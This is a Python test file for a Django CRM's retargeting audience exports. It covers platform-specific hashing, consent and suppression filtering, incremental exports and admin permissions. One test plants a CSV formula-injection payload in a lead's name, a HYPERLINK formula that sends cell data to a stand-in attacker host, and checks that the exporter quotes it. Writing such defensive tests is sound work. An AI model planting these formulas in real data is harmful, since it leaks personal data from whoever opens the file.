"""Retargeting audiences: who is in one, each platform's hashing, and streamed exports."""

import csv
import hashlib
import io

import pytest
from django.contrib.auth.models import Permission
from django.core.files.storage import default_storage
from django.urls import reverse
from django.utils import timezone

from leadcrm.errors import InvalidInput
from leads.models import Lead
from leads.tests.factories import LeadFactory
from nurture.models import Audience, AudienceExport, AudienceMember, FlowStep, Suppression
from nurture.services.audience_formats import generic_row, google_row, meta_row
from nurture.services.audiences import audience_export_request, audience_export_run, audience_leads
from nurture.tasks import export_audience_scheduled_task

from .conftest import wait_step

pytestmark = pytest.mark.django_db

JOHN = {
    "email": "  John_Smith@Gmail.com ",
    "phone": "(650) 555-1212",
    "first_name": "John",
    "last_name": "Smith",
    "country": "US",
    "zip_code": "94025",
}


def test_meta_and_google_hashing_match_the_platforms_published_vectors():
    meta, google, generic = meta_row(JOHN), google_row(JOHN), generic_row(JOHN)

    assert meta[0].startswith("62a14e44f765")  # sha256("john_smith@gmail.com")
    assert meta[1].startswith("e323ec626319")  # sha256("16505551212"): digits with country code, no +
    assert meta[2] == hashlib.sha256(b"john").hexdigest() and meta[4] == hashlib.sha256(b"us").hexdigest()
    assert google[1].startswith("1e231c66")  # sha256("+16505551212"): E.164 with +
    assert google[4:] == ["US", "94025"]
    assert generic == [meta[0], google[1]]


def test_an_audience_never_holds_suppressed_test_duplicate_invalid_or_unconsented_leads(campaign):
    audience = Audience.objects.create(name="US leads", countries=["US"])
    keep = LeadFactory(campaign=campaign, consent=True)
    LeadFactory(campaign=campaign, consent=False)
    LeadFactory(campaign=campaign, consent=True, is_test=True)
    LeadFactory(campaign=campaign, consent=True, is_duplicate=True)
    LeadFactory(campaign=campaign, consent=True, validity="invalid")
    LeadFactory(campaign=campaign, consent=True, country="DE")
    gone = LeadFactory(campaign=campaign, consent=True)
    Suppression.objects.create(email=gone.email, reason="unsubscribed")

    assert list(audience_leads(audience).values_list("pk", flat=True)) == [keep.pk]


def read(export: AudienceExport) -> list[list[str]]:
    with default_storage.open(export.file.name) as handle:
        data = handle.read()
    assert hashlib.sha256(data).hexdigest() == export.checksum and len(data) == export.file_size
    return list(csv.reader(io.StringIO(data.decode())))


def test_an_export_writes_the_file_with_its_rows_checksum_and_size_once_per_period(
    campaign, django_capture_on_commit_callbacks
):
    audience = Audience.objects.create(name="All")
    LeadFactory.create_batch(5, campaign=campaign, consent=True, phone="+16505551212")

    with django_capture_on_commit_callbacks(execute=True):
        export = audience_export_request(audience=audience, format="meta", mode="full", period="2026-11-29T10")
        again = audience_export_request(audience=audience, format="meta", mode="full", period="2026-11-29T10")

    export.refresh_from_db()
    assert again.pk == export.pk and AudienceExport.objects.count() == 1
    assert (export.status, export.rows, export.rows_total) == ("done", 5, 5)
    rows = read(export)
    assert rows[0] == ["email", "phone", "fn", "ln", "country"] and len(rows) == 6
    assert rows[1][1].startswith("e323ec626319")


def test_an_incremental_export_has_only_the_leads_new_since_the_last_one(campaign, django_capture_on_commit_callbacks):
    audience = Audience.objects.create(name="All")
    # Captured (and last changed) an hour before: outside the look-back (INCREMENTAL_OVERLAP) of the next export.
    captured_before(
        timezone.now() - timezone.timedelta(hours=1), LeadFactory.create_batch(3, campaign=campaign, consent=True)
    )
    with django_capture_on_commit_callbacks(execute=True):
        first = audience_export_request(audience=audience, format="generic", mode="incremental", period="p1")
    newer = LeadFactory(campaign=campaign, consent=True, created_at=timezone.now() + timezone.timedelta(seconds=5))

    with django_capture_on_commit_callbacks(execute=True):
        second = audience_export_request(audience=audience, format="generic", mode="incremental", period="p2")

    first.refresh_from_db()
    second.refresh_from_db()
    assert (first.rows, second.rows) == (3, 1)
    assert read(second)[1][0] == hashlib.sha256(newer.email.encode()).hexdigest()


def captured_before(moment, leads):
    """Leads captured, and last changed, at `moment` (a lead's updated_at is always its last save)."""
    Lead.objects.filter(pk__in=[lead.pk for lead in leads]).update(created_at=moment, updated_at=moment)
    return leads


def test_an_incremental_export_of_a_segment_has_the_leads_that_came_to_match_it_since(
    campaign, django_capture_on_commit_callbacks
):
    from leads.services import lead_set_status
    from nurture.models import Enrollment, Flow, NurtureMessage
    from nurture.services.engagement import message_opened

    won = Audience.objects.create(name="Buyers", statuses=["won"])
    engaged = Audience.objects.create(name="Engaged", engaged_not_converted=True)
    hour_ago = timezone.now() - timezone.timedelta(hours=1)
    buyer, reader, idle = captured_before(hour_ago, LeadFactory.create_batch(3, campaign=campaign, consent=True))
    step = FlowStep.objects.create(flow=Flow.objects.create(name="Welcome"), kind="email", subject="Hi", body_text="Hi")
    enrollment = Enrollment.objects.create(flow=step.flow, lead=reader, step=step)
    message = NurtureMessage.objects.create(enrollment=enrollment, lead=reader, step=step, to_email=reader.email)
    with django_capture_on_commit_callbacks(execute=True):
        firsts = [
            audience_export_request(audience=a, format="generic", mode="incremental", period="p1")
            for a in (won, engaged)
        ]

    # After those exports, one lead buys and another opens an email: each now matches a segment.
    lead_set_status(lead=buyer, status="won", actor=None, sale_amount=100)
    message_opened(message_id=message.pk)
    with django_capture_on_commit_callbacks(execute=True):
        seconds = [
            audience_export_request(audience=a, format="generic", mode="incremental", period="p2")
            for a in (won, engaged)
        ]

    for export in [*firsts, *seconds]:
        export.refresh_from_db()
    assert [export.rows for export in firsts] == [0, 0]
    assert [read(export)[1:] for export in seconds] == [
        [[hashlib.sha256(buyer.email.encode()).hexdigest(), ""]],
        [[hashlib.sha256(reader.email.encode()).hexdigest(), ""]],
    ]
    assert idle.pk not in audience_leads(engaged).values_list("pk", flat=True)


def test_an_incremental_export_of_a_static_list_has_the_leads_added_since_whenever_they_were_captured(
    campaign, django_capture_on_commit_callbacks
):
    audience = Audience.objects.create(name="Engaged", kind=Audience.Kind.STATIC)
    days_ago = timezone.now() - timezone.timedelta(days=3)
    first = LeadFactory(campaign=campaign, consent=True, created_at=days_ago)
    AudienceMember.objects.create(audience=audience, lead=first, added_at=days_ago)
    with django_capture_on_commit_callbacks(execute=True):
        earlier = audience_export_request(audience=audience, format="generic", mode="incremental", period="p1")
    # A flow adds a lead captured days ago (its wait steps passed) after that export.
    added = LeadFactory(campaign=campaign, consent=True, created_at=days_ago + timezone.timedelta(days=1))
    AudienceMember.objects.create(audience=audience, lead=added)

    with django_capture_on_commit_callbacks(execute=True):
        later = audience_export_request(audience=audience, format="generic", mode="incremental", period="p2")

    earlier.refresh_from_db()
    later.refresh_from_db()
    assert (earlier.rows, later.rows) == (1, 1)
    assert read(later)[1][0] == hashlib.sha256(added.email.encode()).hexdigest()


def test_an_incremental_export_looks_back_over_leads_written_while_the_last_one_ran(
    campaign, django_capture_on_commit_callbacks
):
    """A lead stamped just before the last export began, but committed after its query ran, was in no
    file: the next one looks back INCREMENTAL_OVERLAP before that export's start."""
    audience = Audience.objects.create(name="All")
    with django_capture_on_commit_callbacks(execute=True):
        earlier = audience_export_request(audience=audience, format="generic", mode="incremental", period="p1")
    earlier.refresh_from_db()
    late = LeadFactory(campaign=campaign, consent=True, created_at=earlier.started_at - timezone.timedelta(seconds=2))

    with django_capture_on_commit_callbacks(execute=True):
        later = audience_export_request(audience=audience, format="generic", mode="incremental", period="p2")

    later.refresh_from_db()
    assert (earlier.rows, later.rows) == (0, 1)
    assert read(later)[1][0] == hashlib.sha256(late.email.encode()).hexdigest()


def audience_page_data(audience: Audience, export, **fields) -> dict:
    """What the audience's admin page posts back, with its one export listed, and these fields."""
    return {
        "kind": Audience.Kind.SEGMENT,
        "exports-TOTAL_FORMS": "1",
        "exports-INITIAL_FORMS": "1",
        "exports-MIN_NUM_FORMS": "0",
        "exports-MAX_NUM_FORMS": "1000",
        "exports-0-id": str(export.pk),
        "exports-0-audience": str(audience.pk),
        **fields,
    }


def test_an_incremental_export_after_the_audiences_conditions_changed_holds_everyone_and_says_so(
    campaign, client, staff_user_in, django_capture_on_commit_callbacks
):
    client.force_login(staff_user_in("Marketing"))
    audience = Audience.objects.create(name="Buyers", countries=["US"])
    hour_ago = timezone.now() - timezone.timedelta(hours=1)
    us, de = captured_before(hour_ago, [LeadFactory(campaign=campaign, consent=True, country=c) for c in ("US", "DE")])
    with django_capture_on_commit_callbacks(execute=True):
        first = audience_export_request(audience=audience, format="generic", mode="incremental", period="p1")

    # Staff widen the audience to Germany on its page: its German leads, captured an hour ago, are in no file.
    page = reverse("admin:nurture_audience_change", args=[audience.pk])
    saved = client.post(page, audience_page_data(audience, first, name="Buyers", countries="US,DE"))
    assert saved.status_code == 302, saved.context["adminform"].form.errors
    with django_capture_on_commit_callbacks(execute=True):
        second = audience_export_request(audience=audience, format="generic", mode="incremental", period="p2")

    first.refresh_from_db()
    second.refresh_from_db()
    assert [row[0] for row in read(first)[1:]] == [hashlib.sha256(us.email.encode()).hexdigest()]
    assert sorted(row[0] for row in read(second)[1:]) == sorted(
        hashlib.sha256(lead.email.encode()).hexdigest() for lead in (us, de)
    )
    assert (
        "Everyone: the audience&#x27;s conditions changed since the last export." in client.get(page).content.decode()
    )

    # Once a file holds everyone under the new conditions (the change an hour back, past the look-back),
    # the next one is incremental again.
    Audience.objects.filter(pk=audience.pk).update(conditions_changed_at=hour_ago)
    with django_capture_on_commit_callbacks(execute=True):
        third = audience_export_request(audience=audience, format="generic", mode="incremental", period="p3")
    third.refresh_from_db()
    assert (third.rows, third.note, third.since) == (0, "", second.started_at)


def test_renaming_an_audience_keeps_its_next_incremental_export_incremental(
    campaign, client, staff_user_in, django_capture_on_commit_callbacks
):
    client.force_login(staff_user_in("Marketing"))
    audience = Audience.objects.create(name="Buyers", countries=["US"])
    captured_before(timezone.now() - timezone.timedelta(hours=1), [LeadFactory(campaign=campaign, consent=True)])
    with django_capture_on_commit_callbacks(execute=True):
        first = audience_export_request(audience=audience, format="generic", mode="incremental", period="p1")

    client.post(
        reverse("admin:nurture_audience_change", args=[audience.pk]),
        audience_page_data(audience, first, name="US buyers", countries="US"),
    )
    with django_capture_on_commit_callbacks(execute=True):
        second = audience_export_request(audience=audience, format="generic", mode="incremental", period="p2")

    second.refresh_from_db()
    assert Audience.objects.get(pk=audience.pk).name == "US buyers"
    assert (second.rows, second.note) == (0, "")


@pytest.mark.parametrize(
    "format, mode, message",
    [
        ("Meta", "incremental", "Unknown export format 'Meta': use one of meta, google, generic, plain."),
        ("meta", "incr", "Unknown export mode 'incr': use one of full, incremental."),
    ],
)
def test_a_scheduled_export_of_an_unknown_format_or_mode_is_refused_with_the_ones_to_use(format, mode, message):
    audience = Audience.objects.create(name="All")

    with pytest.raises(InvalidInput) as refused:
        export_audience_scheduled_task(audience.pk, format, mode)

    assert refused.value.message == message
    assert not AudienceExport.objects.exists()


def test_an_export_that_fails_once_claimed_is_marked_failed_with_its_error_not_left_running():
    audience = Audience.objects.create(name="All")
    export = AudienceExport.objects.create(audience=audience, format="Meta", mode="incremental", period="x")

    with pytest.raises(InvalidInput):
        audience_export_run(export_id=export.pk)

    export.refresh_from_db()
    assert (export.status, export.error) == (
        AudienceExport.Status.FAILED,
        "InvalidInput: Unknown export format 'Meta': use one of meta, google, generic, plain.",
    )
    assert export.finished_at is not None


def test_unhashed_exports_need_their_own_permission(campaign, staff_user_in):
    audience = Audience.objects.create(name="All")
    marketer = staff_user_in("Marketing")

    with pytest.raises(InvalidInput):
        audience_export_request(audience=audience, format="plain", mode="full", user=marketer)

    marketer.user_permissions.add(Permission.objects.get(codename="export_plain_audience"))
    marketer = type(marketer).objects.get(pk=marketer.pk)  # fresh permission cache
    assert audience_export_request(audience=audience, format="plain", mode="full", user=marketer).pk


def test_an_unhashed_export_quotes_what_a_spreadsheet_would_run_as_a_formula(
    capture, staff_user_in, django_capture_on_commit_callbacks
):
    attack = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    capture(email="victim@example.com", first_name=attack, last_name="-2+3", phone="+16505551212", consent=True)
    marketer = staff_user_in("Marketing")
    marketer.user_permissions.add(Permission.objects.get(codename="export_plain_audience"))
    marketer = type(marketer).objects.get(pk=marketer.pk)  # fresh permission cache

    with django_capture_on_commit_callbacks(execute=True):
        export = audience_export_request(
            audience=Audience.objects.create(name="All"), format="plain", mode="full", user=marketer
        )

    export.refresh_from_db()
    [header, row] = read(export)
    assert header[:4] == ["email", "phone", "first_name", "last_name"]
    # Quoted, so shown as typed; the phone in E.164 stays a number a platform can match.
    assert row[:4] == ["victim@example.com", "+16505551212", "'" + attack, "'-2+3"]


def test_a_flow_step_adds_leads_to_a_static_audience_that_exports_them(make_flow, capture, tick):
    audience = Audience.objects.create(name="Engaged solar", kind="static")
    make_flow({"kind": FlowStep.Kind.AUDIENCE, "audience": audience}, wait_step(days=1))
    lead = capture(email="ann@example.com", first_name="Ann", consent=True)

    tick(timezone.now())
    tick(timezone.now())  # a second pass adds nothing twice

    assert list(audience.members.values_list("lead_id", flat=True)) == [lead.pk]
    assert list(audience_leads(audience).values_list("pk", flat=True)) == [lead.pk]


def test_the_admin_exports_and_serves_hashed_files_but_plain_ones_only_with_permission(
    client, staff_user_in, campaign, django_capture_on_commit_callbacks
):
    audience = Audience.objects.create(name="All")
    LeadFactory(campaign=campaign, consent=True)
    client.force_login(staff_user_in("Marketing"))
    changelist = reverse("admin:nurture_audience_changelist")

    with django_capture_on_commit_callbacks(execute=True):
        client.post(changelist, {"action": "export_google", "_selected_action": [audience.pk]})
    refused = client.post(changelist, {"action": "export_plain", "_selected_action": [audience.pk]}, follow=True)

    export = AudienceExport.objects.get()
    download = client.get(reverse("admin:nurture_audience_download", args=[export.pk]))
    assert download.status_code == 200 and b"".join(download.streaming_content).startswith(b"Email,Phone")
    assert "need the" in refused.content.decode() and AudienceExport.objects.count() == 1
    page = client.get(reverse("admin:nurture_audience_change", args=[audience.pk]))
    assert page.context["adminform"].form.instance == audience and b"Leads in it now" in page.content


def test_an_export_of_thousands_of_leads_matches_an_independent_computation_row_by_row(
    campaign, django_capture_on_commit_callbacks
):
    """3,000 leads in every shape a form lets through; the expected rows are built here from how each
    lead was made (not with the exporter's own normalisation), and compared as sets of rows."""
    leads, expected_meta, expected_google = [], [], []

    def sha(text: str) -> str:
        return hashlib.sha256(text.encode()).hexdigest() if text else ""

    for n in range(3000):
        country = ("US", "GB", "US")[n % 3]
        if n % 10 == 9:
            phone, digits = "12", ""  # not a number: no phone hash rather than a hash of junk
        elif country == "US":
            phone, digits = f"(650) 555-{1000 + n}", f"1650555{1000 + n}"
        else:
            phone, digits = f"020 7946 {n % 1000:04d}", f"44207946{n % 1000:04d}"
        consent = n % 50 != 0  # 60 without marketing consent: never exported
        leads.append(
            LeadFactory.build(
                campaign=campaign,
                email=f"  Person.{n}@Example.COM ",
                phone=phone,
                first_name=f" Ann-Marie{n} ",
                last_name="O'Neil",
                country=country,
                zip_code=f" {10000 + n} ",
                consent=consent,
            )
        )
        if consent:
            email, first = sha(f"person.{n}@example.com"), sha(f"ann-marie{n}")
            expected_meta.append([email, sha(digits), first, sha("o'neil"), sha(country.lower())])
            expected_google.append(
                [email, sha(f"+{digits}" if digits else ""), first, sha("o'neil"), country, str(10000 + n)]
            )
    Lead.objects.bulk_create(leads, batch_size=500)
    audience = Audience.objects.create(name="Everyone")

    with django_capture_on_commit_callbacks(execute=True):
        meta = audience_export_request(audience=audience, format="meta", mode="full", period="big")
        google = audience_export_request(audience=audience, format="google", mode="full", period="big")

    meta.refresh_from_db()
    google.refresh_from_db()
    assert meta.rows == google.rows == len(expected_meta) == 2940
    meta_rows, google_rows = read(meta), read(google)
    assert sorted(meta_rows[1:]) == sorted(expected_meta)
    assert sorted(google_rows[1:]) == sorted(expected_google)


def test_an_export_shows_its_progress_on_the_audience_page_until_it_is_done(campaign, staff_user_in, client):
    audience = Audience.objects.create(name="Big")
    running = AudienceExport.objects.create(
        audience=audience, format="meta", status="running", rows=5000, rows_total=20000, period="a"
    )
    client.force_login(staff_user_in("Marketing"))
    url = reverse("admin:nurture_audience_change", args=[audience.pk])

    page = client.get(url).content.decode()
    running.status, running.rows = "done", 20000
    running.save()
    finished = client.get(url).content.decode()

    assert "5,000 of 20,000 rows (25%)" in page and 'data-refresh-seconds="3"' in page
    assert "20,000 of 20,000 rows (100%)" in finished and "data-refresh-seconds" not in finished
